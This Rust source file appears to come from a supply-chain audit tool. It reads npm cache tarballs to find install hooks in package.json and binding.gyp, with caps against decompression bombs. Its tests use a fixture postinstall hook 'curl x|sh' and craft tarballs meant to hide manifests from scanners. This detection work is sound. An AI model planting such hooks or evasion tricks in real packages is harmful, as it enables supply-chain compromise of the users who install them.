//! npm package tarballs in a cache: the `package.json` files inside a tarball, whose install
//! scripts run on `npm install`. node-tar, npm's unpacker, reads gzip and zstd by their magic
//! and plain tar otherwise: a blob is read as either kind of tar, and a zstd one is said to be
//! unread. Bounded: a hostile blob is read up to [`DECOMPRESSED_LIMIT`] bytes and
//! [`ENTRY_LIMIT`] entries, never further; one that could not be read to its end says so
//! ([`Manifests::unread`]), so it never passes as one without hooks.

use std::io::{self, Read};

use flate2::read::MultiGzDecoder;

use super::{NpmTarball, checks, tar};

/// The most bytes a tarball is decompressed to. Real packages stay below it (the largest
/// common ones, prebuilt native binaries, unpack to about 150 MB); a gzip bomb costs a second
/// or two of reading before it is cut off.
pub const DECOMPRESSED_LIMIT: u64 = 256 << 20;
/// The most entries of a tarball looked at.
pub const ENTRY_LIMIT: usize = 100_000;
/// The most bytes all the gzipped tarballs of one mount are decompressed to, together: past
/// it, thousands of blobs each under [`DECOMPRESSED_LIMIT`] cannot hold an audit for hours;
/// the tarballs left are unread. A cache of real packages 16 GiB unpacked takes a minute.
pub const SCAN_LIMIT: u64 = 16 << 30;
/// A `package.json` inside a tarball bigger than this is not read.
const MANIFEST_LIMIT: u64 = 16 << 20;

/// A gzip stream starts with these bytes.
pub fn is_gzip(head: &[u8]) -> bool {
    head.starts_with(&[0x1f, 0x8b])
}

/// A zstd frame starts with these bytes; node-tar 7 unpacks such a tarball.
fn is_zstd(head: &[u8]) -> bool {
    head.starts_with(&[0x28, 0xb5, 0x2f, 0xfd])
}

/// What a package tarball declares.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Manifests {
    /// Every `package.json` that lands at the package root ([`lands_at_root`]), in archive
    /// order, with its content. npm unpacks the tarball stripping the first component, so any
    /// of them can become the package's `package.json`: all are kept.
    pub found: Vec<(Vec<u8>, Vec<u8>)>,
    /// Every `binding.gyp` that lands at the package root: without an `install` or
    /// `preinstall` script, npm runs `node-gyp rebuild` for it, and gyp files run commands of
    /// their own.
    pub gyp: Vec<Vec<u8>>,
    /// Why the tarball could not be read to its end, when it could not.
    pub unread: Option<String>,
}

/// Whether a member name is `<dir>/<file>`, which npm's unpacking puts at the package root.
fn is_top(name: &[u8], file: &[u8]) -> bool {
    let parts: Vec<&[u8]> = name
        .split(|b| *b == b'/')
        .filter(|c| !c.is_empty() && *c != b".")
        .collect();
    matches!(parts.as_slice(), [_, f] if *f == file)
}

/// Whether node-tar, unpacking with `strip: 1` as npm does, writes a member named `raw` (as the
/// headers give it) to `<package root>/<file>`. node-tar drops the first `/`-separated
/// component, then strips roots as Windows parses them, even on Linux (`/`, `\`, `C:`, UNC
/// `\\host\share\`), repeatedly, and refuses a `..` left over. A name left rooted after the
/// strip counts when its last component (split at `/`, `\` and `:`) is `file`: whatever root
/// the loop strips, only a prefix goes. Otherwise the rest must resolve to `file` itself.
fn npm_puts_at_root(raw: &[u8], file: &[u8]) -> bool {
    let Some(slash) = raw.iter().position(|b| *b == b'/') else {
        return false;
    };
    let rest = &raw[slash + 1..];
    let loose: Vec<&[u8]> = rest.split(|b| *b == b'/' || *b == b'\\').collect();
    if loose.contains(&&b".."[..]) {
        return false;
    }
    let rooted = matches!(rest.first(), Some(b'/' | b'\\'))
        || (rest.len() >= 2 && rest[0].is_ascii_alphabetic() && rest[1] == b':');
    if rooted {
        return rest
            .rsplit(|b| matches!(b, b'/' | b'\\' | b':'))
            .next()
            .is_some_and(|last| last == file);
    }
    let parts: Vec<&[u8]> = rest
        .split(|b| *b == b'/')
        .filter(|c| !c.is_empty() && *c != b".")
        .collect();
    matches!(parts.as_slice(), [f] if *f == file)
}

/// Whether a member lands at the package root as `file`: by its depth as this reader names it,
/// or as node-tar's unpacking names it (a member either counts).
fn lands_at_root(h: &tar::Header, file: &[u8]) -> bool {
    is_top(&h.path, file) || npm_puts_at_root(&h.raw_path, file)
}

/// A reader that fails, rather than ends, past its limit: a cut-off tarball reads as what it is.
struct Capped<R> {
    inner: R,
    left: u64,
    /// Why reading past the limit fails.
    over: String,
}

impl<R: Read> Read for Capped<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        if self.left == 0 {
            let mut probe = [0u8; 1];
            return match self.inner.read(&mut probe)? {
                0 => Ok(0),
                _ => Err(io::Error::other(self.over.clone())),
            };
        }
        let want = (buf.len() as u64).min(self.left) as usize;
        let n = self.inner.read(&mut buf[..want])?;
        self.left -= n as u64;
        Ok(n)
    }
}

/// Reads the depth-1 `package.json` files of a gzipped tarball (the caller checked
/// [`is_gzip`]). What was found before a read failed is kept, with why it failed.
pub fn manifests(blob: impl Read) -> Manifests {
    manifests_within(blob, DECOMPRESSED_LIMIT)
}

/// What an npm cache blob holds, read as node-tar would read it: `None` when it is no
/// tarball node-tar unpacks (a packument or other JSON: no block of it is a tar header).
/// A gzip or plain tar is read for its manifests; a zstd one is unread (install scripts
/// unknown). A read failure of the blob itself is returned.
///
/// `budget` is what the mount's gzipped tarballs may still be decompressed to
/// ([`SCAN_LIMIT`]); what this one was decompressed to is taken from it.
pub fn blob_manifests(mut blob: impl Read, budget: &mut u64) -> io::Result<Option<Manifests>> {
    let mut head = Vec::with_capacity(4);
    (&mut blob).take(4).read_to_end(&mut head)?;
    let whole = io::Cursor::new(head.clone()).chain(blob);
    if is_gzip(&head) {
        let m = if *budget < DECOMPRESSED_LIMIT {
            let over = format!(
                "decompresses to more than the {} bytes left of the mount's decompression budget",
                *budget
            );
            walk(Gzip(MultiGzDecoder::new(whole)), *budget, over)
        } else {
            walk(
                Gzip(MultiGzDecoder::new(whole)),
                DECOMPRESSED_LIMIT,
                over(DECOMPRESSED_LIMIT),
            )
        };
        *budget = budget.saturating_sub(m.read);
        return Ok(Some(m.manifests));
    }
    if is_zstd(&head) {
        return Ok(Some(Manifests {
            unread: Some(
                "a zstd-compressed package tarball, which npm unpacks and this audit cannot \
                 read: install scripts unknown"
                    .to_owned(),
            ),
            ..Manifests::default()
        }));
    }
    let m = walk(whole, DECOMPRESSED_LIMIT, over(DECOMPRESSED_LIMIT));
    Ok((m.headers > 0 || m.manifests.unread.is_some()).then_some(m.manifests))
}

/// [`manifests`], decompressing at most `limit` bytes.
fn manifests_within(blob: impl Read, limit: u64) -> Manifests {
    walk(Gzip(MultiGzDecoder::new(blob)), limit, over(limit)).manifests
}

/// Why a tarball past `limit` bytes is not read on.
fn over(limit: u64) -> String {
    format!("decompresses to more than {limit} bytes")
}

/// A gzip stream whose failures stay failures: a cut-off stream is not taken for a blob that
/// ends before its first header (which [`tar::npm_entries`] reads as no tarball at all).
struct Gzip<R>(R);

impl<R: Read> Read for Gzip<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        self.0.read(buf).map_err(|e| {
            if e.kind() == io::ErrorKind::UnexpectedEof {
                io::Error::new(io::ErrorKind::InvalidData, format!("gzip stream: {e}"))
            } else {
                e
            }
        })
    }
}

/// What a walk of a tarball (already decompressed) found.
struct Walked {
    manifests: Manifests,
    /// How many entries were read (none, and no failure: not a tarball at all).
    headers: usize,
    /// How many bytes of tar were read.
    read: u64,
}

/// Reads the tar stream `tar` (at most `limit` bytes of it) for the manifests at its root.
fn walk(tar: impl Read, limit: u64, over: String) -> Walked {
    let mut out = Manifests::default();
    let mut reader = Capped {
        inner: tar,
        left: limit,
        over,
    };
    let mut seen = 0usize;
    let read = tar::npm_entries(io::BufReader::new(&mut reader), |h, data| {
        seen += 1;
        if seen > ENTRY_LIMIT {
            return Err(io::Error::other(format!("more than {ENTRY_LIMIT} entries")));
        }
        if h.kind == tar::Kind::File && lands_at_root(h, b"binding.gyp") {
            out.gyp.push(h.path.clone());
        }
        if h.kind != tar::Kind::File || !lands_at_root(h, b"package.json") {
            return Ok(());
        }
        if h.size > MANIFEST_LIMIT {
            return Err(io::Error::other(format!(
                "`package.json` larger than {MANIFEST_LIMIT} bytes"
            )));
        }
        let mut content = Vec::new();
        data.read_to_end(&mut content)?;
        out.found.push((h.path.clone(), content));
        Ok(())
    });
    if let Err(e) = read {
        out.unread = Some(format!("package tarball not read to its end: {e}"));
    }
    Walked {
        manifests: out,
        headers: seen,
        read: limit - reader.left,
    }
}

/// What makes a tarball a startup-hook carrier: the install scripts each of its `package.json`
/// files declares, an `install` each `binding.gyp` implies, and whether it was read to its end.
/// `None` when it was, and nothing declares or implies any.
pub fn hooks(found: Manifests) -> Option<NpmTarball> {
    let mut unread = found.unread.clone();
    let declared: Vec<(String, Vec<String>)> = found
        .found
        .iter()
        .map(|(member, json)| {
            let scripts = checks::npm_lifecycle_scripts(json).unwrap_or_else(|e| {
                // npm may read what this parser does not: its scripts are unknown.
                unread.get_or_insert_with(|| {
                    format!("a package.json npm reads was not parsed here ({e}): install scripts unknown")
                });
                Vec::new()
            });
            (String::from_utf8_lossy(member).into_owned(), scripts)
        })
        .collect();
    // npm adds `install: node-gyp rebuild` when the package's `package.json` has neither
    // `install` nor `preinstall`. Which of several manifests wins is up to the unpacking, so
    // a `binding.gyp` counts unless every one of them has one of the two.
    let gyp_implied = declared.is_empty()
        || declared
            .iter()
            .any(|(_, scripts)| !scripts.iter().any(|s| s == "install" || s == "preinstall"));
    let mut manifests: Vec<(String, Vec<String>)> = declared
        .into_iter()
        .filter(|(_, scripts)| !scripts.is_empty())
        .collect();
    if gyp_implied {
        manifests.extend(found.gyp.iter().map(|member| {
            (
                String::from_utf8_lossy(member).into_owned(),
                vec!["install".to_owned()],
            )
        }));
    }
    (!manifests.is_empty() || unread.is_some()).then_some(NpmTarball { manifests, unread })
}

#[cfg(test)]
pub(crate) mod tests {
    use std::io::Write as _;

    use flate2::Compression;
    use flate2::write::GzEncoder;

    use super::*;

    fn header(name: &[u8], size: u64) -> [u8; 512] {
        let mut h = [0u8; 512];
        h[..name.len()].copy_from_slice(name);
        h[100..107].copy_from_slice(b"0000644");
        h[124..135].copy_from_slice(format!("{size:011o}").as_bytes());
        h[156] = b'0';
        h[257..263].copy_from_slice(b"ustar\0");
        h[148..156].copy_from_slice(b"        ");
        let sum: u64 = h.iter().map(|b| *b as u64).sum();
        h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
        h
    }

    /// An uncompressed tarball of regular files, with its end-of-archive marker.
    pub(crate) fn plain_tar(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut out = Vec::new();
        for (name, data) in files {
            out.extend_from_slice(&header(name.as_bytes(), data.len() as u64));
            out.extend_from_slice(data);
            out.resize(out.len().div_ceil(512) * 512, 0);
        }
        out.extend_from_slice(&[0; 1024]);
        out
    }

    /// A gzipped tarball of regular files, as `npm pack` writes one.
    pub(crate) fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut gz = GzEncoder::new(Vec::new(), Compression::default());
        gz.write_all(&plain_tar(files)).unwrap();
        gz.finish().unwrap()
    }

    const HOOKED: &[u8] = br#"{"name":"left-pad","scripts":{"postinstall":"curl x|sh"}}"#;

    /// The package's `package.json` is found in a real .tgz, and one nested deeper is not
    /// taken for it.
    #[test]
    fn the_package_manifest_is_read_from_a_tarball() {
        let blob = tgz(&[
            ("package/index.js", b"module.exports = 1\n"),
            ("package/package.json", HOOKED),
            ("package/node_modules/x/package.json", b"{}"),
        ]);
        assert!(is_gzip(&blob));
        let m = manifests(&blob[..]);
        assert_eq!(
            m.found,
            vec![(b"package/package.json".to_vec(), HOOKED.to_vec())]
        );
        assert_eq!(m.unread, None);
    }

    /// A second top-level `package.json` after a harmless first is still read: unpacking
    /// lets the later one win.
    #[test]
    fn a_later_top_level_manifest_is_not_hidden_by_an_earlier_one() {
        let blob = tgz(&[
            ("package/package.json", br#"{"name":"p"}"#),
            ("./other/package.json", HOOKED),
        ]);
        let m = manifests(&blob[..]);
        assert_eq!(m.found.len(), 2);
        assert_eq!(
            m.found[1],
            (b"other/package.json".to_vec(), HOOKED.to_vec())
        );
    }

    /// A truncated or corrupt gzip stream does not panic: it is said to be unread.
    #[test]
    fn a_corrupt_gzip_is_reported_unread() {
        let blob = tgz(&[
            ("package/index.js", &[7u8; 4000]),
            ("package/package.json", HOOKED),
        ]);
        let cut = manifests(&blob[..blob.len() / 2]);
        assert!(cut.unread.is_some(), "{cut:?}");
        let mut garbled = blob.clone();
        for b in &mut garbled[12..40] {
            *b ^= 0x5a;
        }
        let bad = manifests(&garbled[..]);
        assert!(bad.found.is_empty());
        assert!(bad.unread.is_some());
        assert!(manifests(&[0x1f, 0x8b][..]).unread.is_some());
    }

    /// A decompression bomb is read no further than the cap: a manifest placed after it is
    /// never reached, and the blob is said to be unread (a small cap stands in for the real
    /// one, which the same code applies).
    #[test]
    fn a_decompression_bomb_is_capped() {
        let limit = 8 << 20;
        let zeros = vec![0u8; limit as usize + (1 << 20)];
        let blob = tgz(&[
            ("package/big.bin", &zeros),
            ("package/package.json", HOOKED),
        ]);
        assert!(blob.len() < (1 << 20), "{}", blob.len());
        let m = manifests_within(&blob[..], limit);
        assert!(m.found.is_empty());
        let why = m.unread.unwrap();
        assert!(why.contains("more than 8388608 bytes"), "{why}");
        // Under the cap, the same tarball is read whole.
        let whole = manifests_within(&blob[..], 2 * limit);
        assert_eq!(whole.unread, None);
        assert_eq!(whole.found.len(), 1);
    }

    /// A zero block between entries does not hide the `package.json` after it: npm's
    /// unpacker skips a lone zero block and unpacks what follows.
    #[test]
    fn a_manifest_after_a_lone_zero_block_is_read() {
        let mut gz = GzEncoder::new(Vec::new(), Compression::default());
        gz.write_all(&header(b"package/index.js", 0)).unwrap();
        gz.write_all(&[0; 512]).unwrap();
        gz.write_all(&header(b"package/package.json", HOOKED.len() as u64))
            .unwrap();
        gz.write_all(HOOKED).unwrap();
        gz.write_all(&vec![0; 512 - HOOKED.len() % 512]).unwrap();
        gz.write_all(&[0; 1024]).unwrap();
        let m = manifests(&gz.finish().unwrap()[..]);
        assert_eq!(m.unread, None);
        assert_eq!(
            m.found,
            vec![(b"package/package.json".to_vec(), HOOKED.to_vec())]
        );
    }

    /// Only manifests that declare install scripts are kept as hooks; a tarball without any is
    /// no carrier unless it could not be read to its end.
    #[test]
    fn hooks_name_the_scripts_of_each_manifest() {
        let hooked = hooks(manifests(
            &tgz(&[
                ("package/package.json", br#"{"name":"p"}"#),
                ("other/package.json", HOOKED),
            ])[..],
        ))
        .unwrap();
        assert_eq!(
            hooked.manifests,
            vec![(
                "other/package.json".to_owned(),
                vec!["postinstall".to_owned()]
            )]
        );
        assert_eq!(hooked.unread, None);
        assert_eq!(
            hooks(manifests(&tgz(&[("package/package.json", b"{}")])[..])),
            None
        );
        // A `binding.gyp` implies `install` (node-gyp rebuild) unless the package declares
        // `install` or `preinstall` itself.
        let gyp = hooks(manifests(
            &tgz(&[
                ("package/package.json", br#"{"name":"native"}"#),
                ("package/binding.gyp", b"{'targets':[]}"),
            ])[..],
        ))
        .unwrap();
        assert_eq!(
            gyp.manifests,
            vec![("package/binding.gyp".to_owned(), vec!["install".to_owned()])]
        );
        let own = hooks(manifests(
            &tgz(&[
                (
                    "package/package.json",
                    br#"{"scripts":{"install":"node build.js"}}"#,
                ),
                ("package/binding.gyp", b"{}"),
            ])[..],
        ))
        .unwrap();
        assert_eq!(
            own.manifests,
            vec![(
                "package/package.json".to_owned(),
                vec!["install".to_owned()]
            )]
        );
        let cut = hooks(manifests(&[0x1f, 0x8b][..])).unwrap();
        assert!(cut.manifests.is_empty());
        assert!(cut.unread.is_some());
    }

    /// Only `<dir>/package.json` counts as the package's manifest.
    #[test]
    fn top_level_manifests_are_named_by_depth() {
        let is_top_manifest = |name: &[u8]| is_top(name, b"package.json");
        assert!(is_top_manifest(b"package/package.json"));
        assert!(is_top_manifest(b"./left-pad/package.json"));
        assert!(!is_top_manifest(b"package.json"));
        assert!(!is_top_manifest(b"package/lib/package.json"));
        assert!(!is_top_manifest(b"package/package.json.bak"));
    }

    /// One raw 512-byte header: `magic` is bytes 257..265, `prefix` the ustar prefix field.
    fn raw_header(
        name: &[u8],
        flag: u8,
        size: u64,
        link: &[u8],
        magic: &[u8; 8],
        prefix: &[u8],
    ) -> [u8; 512] {
        let mut h = [0u8; 512];
        h[..name.len()].copy_from_slice(name);
        h[100..107].copy_from_slice(b"0000644");
        h[124..135].copy_from_slice(format!("{size:011o}").as_bytes());
        h[156] = flag;
        h[157..157 + link.len()].copy_from_slice(link);
        h[257..265].copy_from_slice(magic);
        h[345..345 + prefix.len()].copy_from_slice(prefix);
        h[148..156].copy_from_slice(b"        ");
        let sum: u64 = h.iter().map(|b| *b as u64).sum();
        h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
        h
    }

    const USTAR: &[u8; 8] = b"ustar\x0000";
    const GNU: &[u8; 8] = b"ustar  \0";

    /// `data` padded to whole blocks.
    fn padded(data: &[u8]) -> Vec<u8> {
        let mut out = data.to_vec();
        out.resize(data.len().div_ceil(512) * 512, 0);
        out
    }

    /// A header then its padded content.
    fn member(header: [u8; 512], data: &[u8]) -> Vec<u8> {
        [&header[..], &padded(data)].concat()
    }

    /// A pax extension header (`flag` `x` or `g`) holding `records`.
    fn pax(flag: u8, records: &[u8]) -> Vec<u8> {
        member(
            raw_header(b"PaxHeader", flag, records.len() as u64, b"", USTAR, b""),
            records,
        )
    }

    /// One `"<len> key=value\n"` record.
    fn record(key: &str, value: &str) -> Vec<u8> {
        let body = format!(" {key}={value}\n");
        let mut len = body.len() + 1;
        if (len + body.len()).to_string().len() > len.to_string().len() {
            len += 1;
        }
        let len = body.len() + len.to_string().len();
        format!("{len}{body}").into_bytes()
    }

    /// Gzips blocks, with the end-of-archive marker appended.
    fn gz(blocks: &[u8]) -> Vec<u8> {
        let mut gz = GzEncoder::new(Vec::new(), Compression::default());
        gz.write_all(blocks).unwrap();
        gz.write_all(&[0; 1024]).unwrap();
        gz.finish().unwrap()
    }

    fn hooked_manifest(name: &[u8], magic: &[u8; 8], prefix: &[u8]) -> Vec<u8> {
        member(
            raw_header(name, b'0', HOOKED.len() as u64, b"", magic, prefix),
            HOOKED,
        )
    }

    /// A manifest npm reads is read as npm reads it (a BOM, an unpaired surrogate): its
    /// scripts are named; one this parser still cannot read makes the tarball unread, never
    /// clean.
    #[test]
    fn manifests_npm_parses_are_never_clean_here() {
        let bom = b"\xef\xbb\xbf{\"scripts\":{\"postinstall\":\"\\ud800\"}}";
        let found = hooks(manifests(&tgz(&[("package/package.json", bom)])[..])).unwrap();
        assert_eq!(found.unread, None);
        assert_eq!(found.scripts(), vec!["postinstall"]);
        let odd = br#"{"scripts":{"postinstall":1e400}}"#;
        let found = hooks(manifests(&tgz(&[("package/package.json", odd)])[..])).unwrap();
        assert!(found.manifests.is_empty());
        let why = found.unread.unwrap();
        assert!(why.contains("install scripts unknown"), "{why}");
    }

    /// Finding 1a: a GNU-magic header's prefix field is not part of the name (node-tar reads it
    /// only after `ustar\0` `00`), so `zz` there does not push the manifest out of the root;
    /// a real ustar prefix still joins the name.
    #[test]
    fn the_prefix_field_counts_only_in_posix_ustar() {
        let gnu = hooks(manifests(
            &gz(&hooked_manifest(b"package/package.json", GNU, b"zz"))[..],
        ))
        .unwrap();
        assert_eq!(
            gnu.manifests,
            vec![(
                "package/package.json".to_owned(),
                vec!["postinstall".to_owned()]
            )]
        );
        let ustar = manifests(&gz(&hooked_manifest(b"package.json", USTAR, b"package"))[..]);
        assert_eq!(ustar.unread, None);
        assert_eq!(
            ustar.found,
            vec![(b"package/package.json".to_vec(), HOOKED.to_vec())]
        );
        // A ustar prefix pushes a name one level down: not the root any more.
        let deep = manifests(&gz(&hooked_manifest(b"x/package.json", USTAR, b"package"))[..]);
        assert!(deep.found.is_empty(), "{deep:?}");
    }

    /// Finding 1b: a pax global header setting `size` (node-tar applies it to later entries,
    /// hiding a manifest inside another file's declared content from a reader that does not)
    /// makes the tarball unread; a git-archive style global `comment` does not.
    #[test]
    fn a_global_pax_size_is_refused() {
        let hidden = hooked_manifest(b"package/package.json", USTAR, b"");
        let mut index = raw_header(b"package/index.js", b'0', 2048, b"", USTAR, b"").to_vec();
        index.extend_from_slice(&hidden);
        index.resize(512 + 2048, 0);
        let blocks = [pax(b'g', &record("size", "512")), index].concat();
        let m = manifests(&gz(&blocks)[..]);
        let why = m.unread.clone().unwrap();
        assert!(why.contains("global"), "{why}");
        assert!(hooks(m).unwrap().unread.is_some());
        for key in ["path", "linkpath"] {
            let blocks = [
                pax(b'g', &record(key, "package/package.json")),
                hidden.clone(),
            ]
            .concat();
            assert!(manifests(&gz(&blocks)[..]).unread.is_some(), "{key}");
        }
        let git = [
            pax(
                b'g',
                &record("comment", "0123456789abcdef0123456789abcdef01234567"),
            ),
            hidden.clone(),
        ]
        .concat();
        let m = manifests(&gz(&git)[..]);
        assert_eq!(m.unread, None);
        assert_eq!(m.found.len(), 1);
    }

    /// Finding 1c: names node-tar (strip 1, then Windows root stripping even on Linux) puts at
    /// the package root are manifests and `binding.gyp` files; deeper or refused ones are not.
    #[test]
    fn names_node_tar_roots_at_the_package_are_found() {
        for name in [
            &b"/package.json"[..],
            b"x/\\package.json",
            b"x/C:package.json",
            b"x/c:/package.json",
            b"x/\\\\host\\share\\package.json",
            // node-tar strips `/` roots one at a time (this lands at `host/share/`), but a
            // name left rooted counts at any depth: no real package has one.
            b"x///host/share/package.json",
            b"../package.json",
            b"./package.json",
            b"x/./package.json",
            b"x//package.json",
        ] {
            let m = manifests(&gz(&hooked_manifest(name, USTAR, b""))[..]);
            assert_eq!(m.unread, None, "{}", String::from_utf8_lossy(name));
            assert_eq!(m.found.len(), 1, "{}", String::from_utf8_lossy(name));
        }
        for name in [
            &b"//binding.gyp"[..],
            b"x/c:/binding.gyp",
            b"x/\\binding.gyp",
        ] {
            let blob = gz(&member(raw_header(name, b'0', 2, b"", USTAR, b""), b"{}"));
            let found = hooks(manifests(&blob[..])).unwrap();
            assert_eq!(found.manifests[0].1, vec!["install".to_owned()]);
        }
        for name in [
            &b"package/lib/package.json"[..],
            b"x/a\\package.json",
            b"package/../package.json",
            b"package.json",
            b"x/package.json.bak",
        ] {
            let m = manifests(&gz(&hooked_manifest(name, USTAR, b""))[..]);
            assert!(m.found.is_empty(), "{}", String::from_utf8_lossy(name));
        }
    }

    /// An old-style file named with a trailing `/` is a directory without content to node-tar:
    /// the size it declares does not swallow the manifest after it.
    #[test]
    fn a_file_named_as_a_directory_has_no_content() {
        let blocks = [
            raw_header(b"package/x/", b'0', 1024, b"", USTAR, b"").to_vec(),
            hooked_manifest(b"package/package.json", USTAR, b""),
        ]
        .concat();
        let m = manifests(&gz(&blocks)[..]);
        assert_eq!(m.unread, None);
        assert_eq!(m.found.len(), 1);
    }

    /// Headers node-tar reads differently make the tarball unread: sparse and multi-volume
    /// entries, pax records with a newline in a value or a non-decimal `size`, a file with a
    /// link target, a link declaring content, a ustar prefix beside a long name.
    #[test]
    fn ambiguous_headers_are_unread() {
        let hidden = hooked_manifest(b"package/package.json", USTAR, b"");
        let cases: Vec<(&str, Vec<u8>)> = vec![
            (
                "sparse",
                member(raw_header(b"package/a", b'S', 1, b"", GNU, b""), b"a"),
            ),
            (
                "multi-volume",
                member(raw_header(b"package/a", b'M', 1, b"", GNU, b""), b"a"),
            ),
            (
                "newline",
                [pax(b'x', &record("path", "zz/\n9 a=b")), hidden.clone()].concat(),
            ),
            (
                "hex size",
                [pax(b'x', &record("size", "0x200")), hidden.clone()].concat(),
            ),
            (
                "file with a target",
                member(raw_header(b"package/a", b'0', 1, b"b", USTAR, b""), b"a"),
            ),
            (
                "link with content",
                member(
                    raw_header(b"package/a", b'2', 512, b"b", USTAR, b""),
                    &[0; 512],
                ),
            ),
            (
                "prefix and long name",
                [
                    pax(b'x', &record("path", "package/package.json")),
                    hooked_manifest(b"package.json", USTAR, b"zz"),
                ]
                .concat(),
            ),
        ];
        for (what, blocks) in cases {
            let m = manifests(&gz(&[&blocks[..], &hidden[..]].concat())[..]);
            assert!(m.unread.is_some(), "{what}: {m:?}");
        }
    }

    /// Ordinary npm tarballs read as before: `package/` names, ustar, and a pax `x` header
    /// giving a long path (the manifest's own, or a deep file's).
    #[test]
    fn ordinary_tarballs_read_as_before() {
        let long = format!("package/{}/index.js", "d".repeat(120));
        let blocks = [
            raw_header(b"package", b'5', 0, b"", USTAR, b"").to_vec(),
            pax(b'x', &record("path", &long)),
            member(
                raw_header(b"package/d/index.js", b'0', 1, b"", USTAR, b""),
                b"1",
            ),
            pax(
                b'x',
                &[record("path", "package/package.json"), record("mtime", "1")].concat(),
            ),
            hooked_manifest(b"package/pack", USTAR, b""),
        ]
        .concat();
        let m = manifests(&gz(&blocks)[..]);
        assert_eq!(m.unread, None);
        assert_eq!(
            m.found,
            vec![(b"package/package.json".to_vec(), HOOKED.to_vec())]
        );
        let plain = manifests(&tgz(&[("package/package.json", b"{}"), ("package/a.js", b"")])[..]);
        assert_eq!(plain.unread, None);
        assert_eq!(plain.found.len(), 1);
        assert_eq!(hooks(plain), None);
    }

    fn blob_manifests_unbounded(blob: &[u8]) -> io::Result<Option<Manifests>> {
        blob_manifests(blob, &mut SCAN_LIMIT.clone())
    }

    /// Gzipped tarballs draw on one budget per mount: each takes what it decompressed to,
    /// one that would go past what is left is unread, and once it is spent every gzipped
    /// tarball is unread while a plain tar is still read.
    #[test]
    fn the_mount_budget_caps_decompression_across_tarballs() {
        let small = tgz(&[("package/package.json", HOOKED)]);
        let mut budget = 3 * 1024;
        let first = blob_manifests(&small[..], &mut budget).unwrap().unwrap();
        assert_eq!(first.unread, None);
        assert_eq!(first.found.len(), 1);
        assert_eq!(
            budget, 1024,
            "one header, one block of content, the end marker"
        );
        let second = blob_manifests(&small[..], &mut budget).unwrap().unwrap();
        let why = second.unread.unwrap();
        assert!(why.contains("decompression budget"), "{why}");
        assert_eq!(budget, 0);
        let third = blob_manifests(&small[..], &mut budget).unwrap().unwrap();
        assert!(third.unread.is_some());
        let plain = plain_tar(&[("package/package.json", HOOKED)]);
        let raw = blob_manifests(&plain[..], &mut budget).unwrap().unwrap();
        assert_eq!(raw.unread, None);
        assert_eq!(raw.found.len(), 1);
    }

    /// Finding 3: a cache blob that is a plain tar is read like a gzipped one; a zstd one is
    /// unread (node-tar unpacks it, this audit cannot read it); a packument or other JSON is no
    /// tarball, while a tar after a block node-tar skips (a failed checksum) is still read.
    #[test]
    fn blobs_are_read_as_node_tar_reads_them() {
        let plain = [
            &hooked_manifest(b"package/package.json", USTAR, b"")[..],
            &[0; 1024],
        ]
        .concat();
        let m = blob_manifests_unbounded(&plain[..]).unwrap().unwrap();
        assert_eq!(m.unread, None);
        assert_eq!(m.found.len(), 1);
        let zipped = tgz(&[("package/package.json", HOOKED)]);
        assert_eq!(
            blob_manifests_unbounded(&zipped[..])
                .unwrap()
                .unwrap()
                .found
                .len(),
            1
        );
        let zstd = [&[0x28, 0xb5, 0x2f, 0xfd][..], &[1; 100]].concat();
        let m = blob_manifests_unbounded(&zstd[..]).unwrap().unwrap();
        assert!(m.unread.unwrap().contains("zstd"));
        assert!(hooks(blob_manifests_unbounded(&zstd[..]).unwrap().unwrap()).is_some());
        let packument =
            br#"{"name":"left-pad","versions":{"1.0.0":{"scripts":{"postinstall":"x"}}}}"#;
        assert_eq!(blob_manifests_unbounded(&packument[..]).unwrap(), None);
        assert_eq!(
            blob_manifests_unbounded(&padded(packument)[..]).unwrap(),
            None
        );
        assert_eq!(blob_manifests_unbounded(&b""[..]).unwrap(), None);
        let behind = [&padded(packument)[..], &plain[..]].concat();
        let m = blob_manifests_unbounded(&behind[..]).unwrap().unwrap();
        assert_eq!(m.found.len(), 1);
        // A plain tar cut inside an entry is unread.
        let cut = blob_manifests_unbounded(&plain[..600]).unwrap().unwrap();
        assert!(cut.unread.is_some());
    }
}
